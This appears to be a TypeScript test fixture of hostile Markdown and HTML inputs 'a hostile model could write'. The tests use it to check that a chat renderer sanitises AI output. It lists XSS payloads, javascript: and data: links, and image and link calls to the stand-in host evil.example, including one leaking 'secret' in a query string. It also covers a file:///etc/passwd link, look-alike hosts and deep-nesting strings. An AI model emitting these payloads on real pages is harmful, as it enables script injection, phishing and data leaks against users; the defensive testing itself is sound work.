/**
 * What a hostile model could write. Used by the unit test beside and by the browser test,
 * which also checks that no request leaves the origin and that nothing covers the tray.
 */

export interface Payload {
  name: string
  source: string
  /** The text that must be seen; by default the source itself. White space is not compared. */
  text?: string
}

const NULL = '\u0000'
const FENCE = '```'

export const PAYLOADS: Payload[] = [
  { name: 'script element', source: '<script>alert(1)</script>' },
  { name: 'script in a paragraph', source: 'Before <script src="https://evil.example/x.js"></script> after' },
  { name: 'image with a handler', source: '<img src=x onerror=alert(1)>' },
  { name: 'svg with a handler', source: '<svg onload="alert(1)"><path d="M0 0"/></svg>' },
  { name: 'svg with an animation', source: '<svg><animate onbegin=alert(1) attributeName=x></svg>' },
  { name: 'math and mutation', source: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'iframe', source: '<iframe src="https://evil.example/"></iframe>' },
  { name: 'iframe with a document', source: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'object and embed', source: '<object data="https://evil.example/"></object><embed src="//evil.example/">' },
  { name: 'base', source: '<base href="https://evil.example/">' },
  { name: 'meta refresh', source: '<meta http-equiv="refresh" content="0;url=https://evil.example/">', text: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  { name: 'link element', source: '<link rel=stylesheet href="//evil.example/x.css">' },
  { name: 'form', source: '<form action="https://evil.example/"><input name=q><button>Approve once</button></form>' },
  { name: 'style element', source: '<style>body{display:none}</style>' },
  { name: 'overlay', source: '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Nothing is waiting for you.</div>' },
  { name: 'class and id', source: '<p class="fixed inset-0" id="app">x</p>' },
  { name: 'details', source: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { name: 'comment', source: 'a <!-- hidden --> b' },
  { name: 'cdata and doctype', source: '<![CDATA[x]]> <!DOCTYPE html> <?php x ?>' },
  { name: 'attribute syntax', source: 'text{style="position:fixed" .fixed #app onclick=alert(1)}' },
  { name: 'component syntax', source: '::card{style="position:fixed"}\nInside\n::' },
  { name: 'inline component', source: 'a :button[Approve]{onclick="alert(1)"} b' },
  { name: 'braces', source: '{a: 1}' },
  { name: 'pseudo elements', source: 'p::before and ::after, a :focus rule' },
  { name: 'leading dashes', source: '---\ntitle: x\n\nThe text goes on', text: 'title: x The text goes on' },
  { name: 'template syntax', source: '{{ constructor.constructor("alert(1)")() }} ${alert(1)} <%= x %>' },
  { name: 'vue directives', source: '<div v-html="x" @click="alert(1)" :style="y"><component is="script"/></div>' },
  { name: 'javascript link', source: '[click](javascript:alert(1))' },
  { name: 'javascript link in capitals', source: '[click](JaVaScRiPt:alert(1))' },
  { name: 'javascript link with an entity', source: '[click](javascript&colon;alert(1))', text: '[click](javascript:alert(1))' },
  { name: 'javascript link with a tab', source: '[click](java&#9;script:alert(1))', text: '[click](javascript:alert(1))' },
  { name: 'javascript in angle brackets', source: '[click](<javascript:alert(1)>)' },
  { name: 'javascript autolink', source: '<javascript:alert(1)>' },
  { name: 'vbscript link', source: '[click](vbscript:msgbox(1))' },
  { name: 'data link', source: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'blob and file links', source: '[a](blob:https://evil.example/1) [b](file:///etc/passwd)' },
  { name: 'link without a scheme', source: '[click](//evil.example/x)' },
  { name: 'relative link', source: '[click](/api/auth/logout)' },
  { name: 'ftp and unknown schemes', source: 'ftp://evil.example/x [a](steam://run) [b](ms-msdt:/id)' },
  { name: 'http link', source: '[the docs](https://docs.example/a?b=c)', text: 'the docs' },
  { name: 'link with a title', source: '[the docs](https://docs.example/ "hover")', text: 'the docs' },
  { name: 'link that lies', source: '[https://bank.example](https://evil.example/)', text: 'https://bank.example' },
  { name: 'link with a user part', source: 'https://bank.example@evil.example/', text: 'https://bank.example@evil.example/' },
  { name: 'look-alike host', source: 'https://аррӏе.com/x' },
  { name: 'autolink', source: 'See <https://a.example/?q=<x>.', text: 'See <https://a.example/?q=<x>.' },
  { name: 'autolink with a quote', source: 'https://a.example/"onmouseover="alert(1)' },
  { name: 'mail', source: '<me@a.example> [me](mailto:me@a.example)', text: 'me@a.example me' },
  { name: 'remote image', source: '![a chart](https://evil.example/x.png?q=secret)', text: 'a chart' },
  { name: 'remote image without a scheme', source: '![x](//evil.example/x.png)' },
  { name: 'data image', source: '![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)' },
  { name: 'local image', source: '![x](/api/auth/logout)' },
  { name: 'image as a link', source: '[![alt](https://evil.example/x.png)](https://evil.example/)', text: 'alt' },
  { name: 'image with a title', source: '![alt](https://evil.example/x.png "t")', text: 'alt' },
  { name: 'image address in mail form', source: '![alt](mailto:a@b.example)' },
  { name: 'image by reference', source: '![alt][1]\n\n[1]: https://evil.example/x.png' },
  { name: 'reference definition', source: '[text][ref]\n\n[ref]: javascript:alert(1) "title"' },
  { name: 'reference definition alone', source: '[hidden]: <this text must be seen>' },
  { name: 'nested brackets', source: '[[[[a](b)](c)](d)](javascript:x)' },
  { name: 'unbalanced brackets', source: '[a](https://x.example/((( [b]( ![c](' },
  { name: 'right-to-left override', source: 'Run a\u202Egpj.exe now \u2066x\u2069' },
  { name: 'zero width and marks', source: 'a\u200Bb\uFEFF Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358' },
  { name: 'null bytes', source: `a${NULL}b`, text: 'a\uFFFDb' },
  { name: 'entities', source: '&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img&#x3E; &nbsp;', text: '<script>alert(1)</script> <img>' },
  { name: 'unterminated fence', source: `${FENCE}html\n<script>alert(1)</script>`, text: '<script>alert(1)</script>' },
  { name: 'fence with a hostile language', source: `${FENCE}js"onload="alert(1) class=x\nx\n${FENCE}`, text: 'x' },
  { name: 'closed fence with html', source: `${FENCE}html\n<script>alert(1)</script>\n<img src=x onerror="alert(1)">\n${FENCE}`, text: '<script>alert(1)</script><img src=x onerror="alert(1)">' },
  { name: 'fence with code in a language of its own', source: `${FENCE}js\nconst a = html\`<img src=x onerror=alert(1)>\${"</span><script>alert(1)</script>"}\`\n${FENCE}`, text: 'const a = html`<img src=x onerror=alert(1)>${"</span><script>alert(1)</script>"}`' },
  { name: 'fence with an element as its language', source: `${FENCE}<script>alert(1)</script>\nx\n${FENCE}`, text: 'x' },
  { name: 'fence with an image as its language', source: `${FENCE}<img/src=x/onerror=alert(1)>\n<b>x</b>\n${FENCE}`, text: '<b>x</b>' },
  { name: 'fence with a name of the prototype as its language', source: `${FENCE}__proto__\n<b>x</b>\n${FENCE}`, text: '<b>x</b>' },
  { name: 'code with html', source: '`<img src=x onerror=alert(1)>`', text: '<img src=x onerror=alert(1)>' },
  { name: 'indented code', source: 'a\n\n    <b>x</b>', text: 'a <b>x</b>' },
  { name: 'table with hostile cells', source: '| a | b |\n|:-:|--:|\n| <img src=x> | [x](javascript:y) |', text: 'a b <img src=x> [x](javascript:y)' },
  { name: 'table of one line', source: '|a|\n' },
  { name: 'deep quotes', source: `${'> '.repeat(5_000)}deep`, text: `${'> '.repeat(5_000 - 24)}deep` },
  { name: 'deep lists', source: Array.from({ length: 60 }, (_, level) => `${'  '.repeat(level)}- x`).join('\n'), text: `${'x'.repeat(12)}${'-x'.repeat(48)}` },
  { name: 'deep emphasis', source: `${'*a '.repeat(1_500)}${' b*'.repeat(1_500)}`, text: `${'a'.repeat(1_500)}${'b'.repeat(1_500)}` },
  { name: 'many open brackets', source: '['.repeat(9_000) },
  { name: 'many image starts', source: '!['.repeat(4_000) },
  { name: 'a very long paragraph', source: '*a* '.repeat(5_000) },
  { name: 'task list', source: '- [ ] open\n- [x] <b>done</b>', text: '[ ] open [x] <b>done</b>' },
  { name: 'start of a list', source: '999999999. a', text: 'a' },
  { name: 'heading', source: '# <a name=x>a</a> {#app .fixed}', text: '<a name=x>a</a> {#app .fixed}' },
  { name: 'strikethrough', source: '~~<s onclick=x>~~', text: '<s onclick=x>' },
  { name: 'footnote and math', source: 'a[^1] $x^2$ \\(y\\)' },
  { name: 'emoji and at names', source: ':smile: @all #1 www.evil.example me@evil.example' },
  { name: 'escapes of backslashes', source: '\\<b\\> \\[a\\](x)', text: '<b> [a](x)' },
  { name: 'carriage returns', source: 'a\r\nb\rc', text: 'a b c' },
  { name: 'terminal escapes', source: 'a \u001b[31mred\u001b[0m' },
  { name: 'half a pair', source: 'a\uD800b' },
]

/** The tags and attributes that may ever appear in rendered text; values are checked by the tests. */
export const ALLOWED_TAGS = [
  'p', 'br', 'hr', 'em', 'strong', 's', 'a', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li',
  'h3', 'h4', 'h5', 'h6', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'div', 'span', 'button',
]
export const ALLOWED_ATTRIBUTES = ['href', 'start', 'class', 'rel', 'target', 'type', 'tabindex', 'role', 'aria-label']
/** Our own class names, and `language-…`; none is chosen by the model. */
export const ALLOWED_CLASS = /^(?:md|md-(?:link|note|image|alt|table|code|code-(?:head|aside|keyword|string|number|name|added|removed)|copy|rest|center|end|start)|language-[A-Za-z0-9+#._-]{1,32})$/
